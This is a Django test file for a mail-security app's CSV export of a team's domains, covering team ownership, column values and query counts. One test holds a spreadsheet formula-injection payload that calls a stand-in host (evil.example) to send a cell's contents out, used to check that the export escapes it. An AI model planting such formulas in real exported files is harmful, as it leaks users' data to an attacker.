"""The team's domains as CSV (/domains/export.csv): one row per domain, the current team's
only, safe to open in a spreadsheet, streamed with as many queries for 30 domains as for 3."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from django.db import connection
from django.http import StreamingHttpResponse
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from mailsec.csvsafe import cell
from mailsec.domains.export import COLUMNS
from mailsec.domains.models import CheckRun, Domain
from tests.conftest import BaseTestCase
from tests.test_domains import LOCMEM

URL = "/domains/export.csv"
NULL_MX_DETAIL = {
    "categories": {m: {"reason": "does not apply"} for m in ("mta-sts", "tls-rpt", "smtp", "dane")}
}


def checked(domain: Domain, finished: datetime, **fields: Any) -> CheckRun:
    """A finished run, made the domain's last one as a check makes it."""
    values: dict[str, Any] = {
        "status": CheckRun.Status.DONE,
        "score": 80,
        "score_version": 7,
        "mechanisms": {"mx": "pass", "mta-sts": "fail", "spf": "warn"},
        "findings": [
            {"id": "MTASTS-01", "status": "fail", "mechanism": "mta-sts", "summary": "No record."},
            {"id": "SPF-30", "status": "warn", "mechanism": "spf", "summary": "Too many lookups."},
        ],
        "finished": finished,
        **fields,
    }
    run = CheckRun.objects.create(domain=domain, created=finished - timedelta(minutes=1), **values)
    domain.set_last_run(run)
    return run


def table(response: StreamingHttpResponse) -> list[dict[str, str]]:
    assert response.streaming
    # utf-8-sig: the export begins with a BOM, for Excel (export.py).
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@override_settings(CACHES=LOCMEM)
class ExportTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.client.force_login(self.alice)

    def test_it_exports_one_row_per_domain_of_the_team(self) -> None:
        when = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
        verified = Domain.objects.create(
            team=self.team, name="xn--bcher-kva.de", verified_at=timezone.now()
        )
        checked(verified, when)
        Domain.objects.create(team=self.team, name="waiting.example.org")
        no_mail = Domain.objects.create(
            team=self.team, name="parked.example.org", verified_at=timezone.now()
        )
        checked(
            no_mail,
            when,
            score=90,
            mechanisms={"mx": "pass", "mta-sts": "na"},
            findings=[{"id": "MX-03", "status": "pass", "mechanism": "mx", "summary": "Null MX."}],
            score_detail=NULL_MX_DETAIL,
        )
        Domain.objects.create(team=self.charlies_team, name="charlies.example.org")
        r = self.client.get(URL)
        self.assertEqual(r.status_code, 200)
        self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment;", r["Content-Disposition"])
        rows = table(r)
        self.assertEqual(list(rows[0]), COLUMNS)
        self.assertEqual(
            [row["domain_ascii"] for row in rows],
            # The list's order, by the name shown: bücher.de among the b's.
            ["xn--bcher-kva.de", "parked.example.org", "waiting.example.org"],
        )
        idn, parked, waiting = rows
        self.assertEqual(idn["domain"], "bücher.de")
        self.assertEqual(idn["verified"], "yes")
        self.assertEqual(idn["score"], "80")
        self.assertEqual(idn["score_version"], "7")
        self.assertEqual(idn["mx_status"], "Good")
        self.assertEqual(idn["mta-sts_status"], "Failing")
        self.assertEqual(idn["spf_status"], "Needs attention")
        self.assertEqual(idn["dane_status"], "")
        self.assertEqual(idn["worst_finding_id"], "MTASTS-01")
        self.assertEqual(idn["worst_finding_status"], "Failing")
        self.assertEqual(idn["worst_finding_summary"], "No record.")
        self.assertEqual(idn["last_checked_utc"], "2025-03-04T05:06:07Z")
        self.assertEqual(idn["receives_no_mail"], "no")
        # Added, not verified, never checked: nothing but its name and that.
        self.assertEqual(waiting["verified"], "no")
        self.assertEqual(
            [waiting[c] for c in COLUMNS[3:]], [""] * len(COLUMNS[3:]), "never checked"
        )
        self.assertEqual(parked["receives_no_mail"], "yes")
        self.assertEqual(parked["worst_finding_id"], "")

    def test_cells_never_start_a_formula(self) -> None:
        """A finding's summary quotes what strangers publish (a TXT record, a host name)."""
        domain = Domain.objects.create(
            team=self.team, name="x.example.org", verified_at=timezone.now()
        )
        summary = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        checked(
            domain,
            timezone.now(),
            findings=[{"id": "SPF-30", "status": "fail", "mechanism": "spf", "summary": summary}],
        )
        (row,) = table(self.client.get(URL))
        self.assertEqual(row["worst_finding_summary"], "'" + summary)
        for value in ("=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "＝1"):
            self.assertEqual(cell(value), "'" + value, value)
        self.assertEqual(cell("MTASTS-01"), "MTASTS-01")

    def test_it_checks_ownership(self) -> None:
        Domain.objects.create(team=self.team, name="alices.example.org")
        Domain.objects.create(team=self.charlies_team, name="charlies.example.org")
        self.client.force_login(self.charlie)
        r = self.client.get(URL)
        self.assertEqual([row["domain"] for row in table(r)], ["charlies.example.org"])
        # bob is alice's teammate: the team's domains are his to export.
        self.client.force_login(self.bob)
        self.assertEqual(
            [row["domain"] for row in table(self.client.get(URL))], ["alices.example.org"]
        )
        self.client.logout()
        r = self.client.get(URL)
        self.assertEqual(r.status_code, 302)
        self.assertTrue(r["Location"].startswith("/accounts/login/"))
        self.assertEqual(self.client.post(URL).status_code, 302)
        self.client.force_login(self.alice)
        self.assertEqual(self.client.post(URL).status_code, 405)

    def test_the_domain_list_links_to_it(self) -> None:
        # Once the team has a domain: a team without any gets no link, its file would be the
        # header row alone (s25m, tests/test_domains_s25m.py).
        Domain.objects.create(team=self.team, name="alices.example.org")
        self.assertContains(self.client.get("/domains/"), f'href="{URL}"')

    def test_its_queries_do_not_grow_with_the_team(self) -> None:
        def queries(n: int) -> int:
            have = self.team.domains.count()
            for i in range(have, n):
                domain = Domain.objects.create(
                    team=self.team, name=f"d{i}.example.org", verified_at=timezone.now()
                )
                if i % 3:
                    checked(domain, timezone.now())
            self.client.get("/domains/")  # sessions and caches warmed the same way
            with CaptureQueriesContext(connection) as ctx:
                rows = table(self.client.get(URL))
            self.assertEqual(len(rows), n)
            return len(ctx.captured_queries)

        self.assertEqual(queries(3), queries(30))
